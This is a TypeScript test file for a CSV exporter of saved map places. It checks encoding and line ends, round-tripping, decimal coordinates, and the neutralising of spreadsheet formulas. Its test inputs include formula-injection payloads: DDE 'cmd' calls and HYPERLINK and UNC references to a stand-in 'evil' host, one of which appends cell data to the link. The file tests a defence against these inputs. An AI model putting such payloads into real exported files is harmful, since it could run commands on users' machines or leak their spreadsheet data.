import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { anyLatLng, hostilePlaceText, place } from '../../../test/places.js';
import { coordinatesCsvCell as asCell, readCsv } from '../../../test/read-formats.js';
import { UNTITLED_PLACE_NAME } from '../kml.js';
import { formatDegrees } from '../latlng.js';
import { buildCoordinatesCsv, COORDINATES_CSV_COLUMNS } from './coordinates-csv.js';
import { cleanText, placeName } from './place-text.js';

describe('buildCoordinatesCsv', () => {
  it('writes the product columns, a BOM and CRLF line ends', () => {
    const csv = buildCoordinatesCsv([place()]);
    expect(csv.startsWith('\uFEFFName,Latitude,Longitude,Note,Comment,Tags,URL\r\n')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    expect(readCsv(csv)[0]).toEqual([...COORDINATES_CSV_COLUMNS]);
  });

  it('reads back with every field, the coordinates as numbers', () => {
    const rows = readCsv(
      buildCoordinatesCsv([
        place({
          title: 'Café "Le Nord", Paris',
          note: 'Line one\nline two',
          comment: 'Go early',
          tags: ['🛴 Fun stores', 'Bookstores'],
        }),
        place({ title: '', url: '', coordinates: { lat: -33.8688, lng: -151.2093 } }),
      ]),
    );
    expect(rows.slice(1)).toEqual([
      [
        'Café "Le Nord", Paris',
        '48.8606111',
        '2.337644',
        'Line one\nline two',
        'Go early',
        '🛴 Fun stores, Bookstores',
        'https://www.google.com/maps/place/Louvre/data=!4m2!3m1!1s0x1:0x2',
      ],
      [UNTITLED_PLACE_NAME, '-33.8688', '-151.2093', '', '', '', ''],
    ]);
    expect(Number(rows[2]![1])).toBe(-33.8688);
    expect(Number(rows[2]![2])).toBe(-151.2093);
  });

  it("neutralises formulas in text cells but never prefixes a negative coordinate with '", () => {
    const rows = readCsv(
      buildCoordinatesCsv([
        place({
          title: '=HYPERLINK("http://evil")',
          note: '=1+2',
          comment: '-x',
          tags: ['@me'],
          url: '+33',
          coordinates: { lat: -12.5, lng: -0.0000001 },
        }),
      ]),
    );
    expect(rows[1]).toEqual([
      `'=HYPERLINK("http://evil")`,
      '-12.5',
      '-0.0000001',
      "'=1+2",
      '-x',
      '@me',
      '+33',
    ]);
    // Plain decimals, never exponent notation (1e-7), so My Maps and spreadsheets read numbers.
    expect(Number(rows[1]![2])).toBe(-1e-7);
  });

  it("keeps a place's own text that starts with + - @ as it is, and guards every formula that reaches outside its cell", () => {
    const cellOf = (title: string) =>
      readCsv(buildCoordinatesCsv([place({ title, coordinates: { lat: 1, lng: 2 } })]))[1]![0];
    for (const text of [
      '+44 Café',
      '- try the tart',
      '-5 Degrees',
      '@Home Burgers',
      '+1 555 0100',
    ]) {
      expect(cellOf(text)).toBe(text);
    }
    for (const text of [
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(1+9)*cmd',
      '+HYPERLINK("http://evil?"&A1)',
      "-'\\\\evil\\share\\[x.xlsx]Sheet1'!A1",
      '=1+2',
    ]) {
      expect(cellOf(text)).toBe(`'${text}`);
    }
  });

  it('gives back any text after cleaning and formula neutralising, and any coordinates (property)', () => {
    fc.assert(
      fc.property(
        hostilePlaceText,
        anyLatLng,
        ({ title, note, comment, tags, url }, { lat, lng }) => {
          const rows = readCsv(
            buildCoordinatesCsv([
              place({ title, note, comment, tags, url, coordinates: { lat, lng } }),
            ]),
          );
          expect(rows).toHaveLength(2);
          const tagLine = tags.length > 0 ? cleanText(tags.join(', ')) : '';
          expect(rows[1]).toEqual([
            asCell(placeName(title)),
            formatDegrees(lat),
            formatDegrees(lng),
            asCell(cleanText(note)),
            asCell(cleanText(comment)),
            asCell(tagLine),
            asCell(cleanText(url)),
          ]);
          expect(Number(rows[1]![1])).toBe(Number(formatDegrees(lat)));
          expect(Number(rows[1]![2])).toBe(Number(formatDegrees(lng)));
        },
      ),
      { numRuns: 200 },
    );
  });
});
